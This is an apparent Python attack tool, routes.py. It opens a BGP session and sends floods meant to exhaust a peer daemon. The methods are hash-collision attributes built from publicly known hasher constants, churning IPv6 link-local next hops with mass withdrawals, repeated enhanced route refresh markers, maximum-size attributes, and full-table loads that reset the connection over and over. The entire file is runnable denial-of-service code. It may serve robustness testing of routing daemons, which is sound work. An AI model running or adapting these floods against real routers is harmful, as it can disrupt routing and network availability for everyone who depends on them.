"""routes.py - a peer whose routes are an attack: by what they cost to keep, to find, or to take away.

It stands on bgp.py's octets and is bounded as that is. Each command has one session, and says at its end what it sent
and whether the session still stood.

    routes.py alike       attributes of one hash, for a daemon that mixes them by constants which everybody knows
    routes.py beside      one global next hop with ever another link-local one beside it, which then go one by one
    routes.py again       "now I say all again" and "that was all", between single routes (RFC 7313)
    routes.py large       routes with as many octets of attributes as a message holds
    routes.py table       a large table, then the connection is reset, and again
"""

import select
import socket
import struct
import time

import bgp

# The first of the constants that all hashers of one kind share where nobody has made them secret.
KNOWN = struct.pack("<Q", 0xC0AC29B7C97C50DD)


def established(args, extra=b"", families=(1,)):
    stream = bgp.Stream.dial(args.source, args.target, args.port)
    hello = bgp.open_message(args.asn, args.router_id, args.hold, families, extra=extra)
    outcome = bgp.session(stream, hello)
    if outcome != "established":
        raise SystemExit(f"no session: {outcome}")
    stream.sock.settimeout(args.seconds)
    return stream


class Sender:
    """Sends for so long, reads what comes so that nobody waits for us, and notices the end."""

    def __init__(self, stream, seconds):
        self.stream, self.end = stream, time.monotonic() + seconds
        self.octets, self.ended, self.pending, self.due = 0, None, [], 0.0

    def over(self):
        return self.ended is not None or time.monotonic() >= self.end

    def add(self, data):
        self.pending.append(data)
        if len(self.pending) >= 64:
            self.flush()

    def flush(self):
        if time.monotonic() >= self.due:
            self.pending.append(bgp.message(bgp.KEEPALIVE))
            self.due = time.monotonic() + 1.0
        data, self.pending = memoryview(b"".join(self.pending)), []
        sock = self.stream.sock
        try:
            while data and not self.over():
                readable, writable, _ = select.select([sock], [sock], [], 1.0)
                if readable and not sock.recv(65536):
                    self.ended = "closed"
                if writable:
                    sent = sock.send(data[:65536])
                    self.octets += sent
                    data = data[sent:]
        except OSError as error:
            self.ended = type(error).__name__

    def rest(self):
        """Nothing more but KEEPALIVE until the end."""
        while not self.over():
            self.flush()
            time.sleep(0.2)

    def result(self, **more):
        return {**more, "octets": self.octets, "session": self.ended or "up"}


def blocks(args, more):
    """The attributes of a route, with more behind them."""
    segment = bytes((2, 1)) + struct.pack("!I", args.asn)
    hop = socket.inet_aton(args.source)
    return bgp.attribute(0x40, 1, b"\0") + bgp.attribute(0x40, 2, segment) + bgp.attribute(0x40, 3, hop) + more


def update(attributes, nlri=b"", withdrawn=b""):
    body = struct.pack("!H", len(withdrawn)) + withdrawn + struct.pack("!H", len(attributes)) + attributes + nlri
    return bgp.message(bgp.UPDATE, body)


def host(number):
    return bytes((32,)) + struct.pack("!I", 0x14000000 + number)


def each_its_own(args, extra, more):
    """Routes one by one, each with attributes of its own: more(number) is what stands behind the others."""
    sender = Sender(established(args, extra), args.seconds)
    sent = 0
    while sent < args.count and not sender.over():
        sender.add(update(blocks(args, more(sent)), host(sent)))
        sent += 1
    sender.flush()
    sender.rest()
    return sender.result(routes=sent)


def alike(args):
    def more(number):
        # Of 96 to 128 octets the words 64 and 56 from the end are factors of the last product.
        free = struct.pack("<Q", number) * 6
        return bgp.attribute(0xC0, 240, b"\0" * 24 + KNOWN + KNOWN + free)

    return each_its_own(args, b"", more)


def beside(args):
    stream = established(args, families=(1, 2))
    sender = Sender(stream, args.seconds)
    path = bgp.attribute(0x40, 1, b"\0") + bgp.attribute(0x40, 2, bytes((2, 1)) + struct.pack("!I", args.asn))
    head = struct.pack("!HBB", 2, 1, 32) + socket.inet_pton(socket.AF_INET6, args.next_hop)
    rounds = 0
    while not sender.over() and rounds < args.rounds:
        rounds += 1
        nlri = [bytes((64,)) + struct.pack("!II", 0x20010DB9, n) for n in range(args.count)]
        for number, one in enumerate(nlri):
            near = struct.pack("!QQ", 0xFE80 << 48, (rounds << 32) + number + 1)
            sender.add(update(path + bgp.attribute(0x80, 14, head + near + b"\0" + one)))
        for at in range(0, len(nlri), 200):
            gone = struct.pack("!HB", 2, 1) + b"".join(nlri[at : at + 200])
            sender.add(update(bgp.attribute(0x80, 15, gone)))
    sender.flush()
    sender.rest()
    return sender.result(rounds=rounds)


def again(args):
    extra = bgp.capability(70)
    sender = Sender(established(args, extra), args.seconds)
    block = blocks(args, b"")
    for start in range(0, args.prefixes, 500):
        sender.add(update(block, b"".join(host(n) for n in range(start, start + 500))))
    sender.add(bgp.END_OF_RIB)
    sender.flush()
    begin, end = (bgp.message(5, struct.pack("!HBB", 1, kind, 1)) for kind in (1, 2))
    one, rounds = update(block, host(0)), 0
    while not sender.over() and rounds < args.count:
        sender.add(begin + one + end)
        rounds += 1
    sender.flush()
    sender.rest()
    return sender.result(refreshes=rounds)


def large(args):
    def more(number):
        return bgp.attribute(0xC0, 240, struct.pack("!I", number) + b"\7" * args.octets)

    return each_its_own(args, bgp.capability(6), more)


def table(args):
    counts = {"tables": 0, "octets": 0}
    end = time.monotonic() + args.seconds
    while counts["tables"] < args.rounds and time.monotonic() < end:
        try:
            sender = Sender(established(args), end - time.monotonic())
        except (SystemExit, OSError, EOFError):
            time.sleep(0.2)
            continue
        block = blocks(args, b"")
        for start in range(0, args.prefixes, 800):
            if sender.over():
                break
            sender.add(update(block, b"".join(host(n) for n in range(start, start + 800))))
        sender.flush()
        counts["tables"] += 1
        counts["octets"] += sender.octets
        sender.stream.reset()
    return counts


COMMANDS = {"alike": alike, "beside": beside, "again": again, "large": large, "table": table}


def main():
    parser = bgp.arguments(COMMANDS)
    parser.set_defaults(seconds=10.0, count=10000, prefixes=100000)
    parser.add_argument("--rounds", type=int, default=1000)
    parser.add_argument("--octets", type=int, default=60000)
    bgp.carry_out(COMMANDS, parser)


if __name__ == "__main__":
    main()
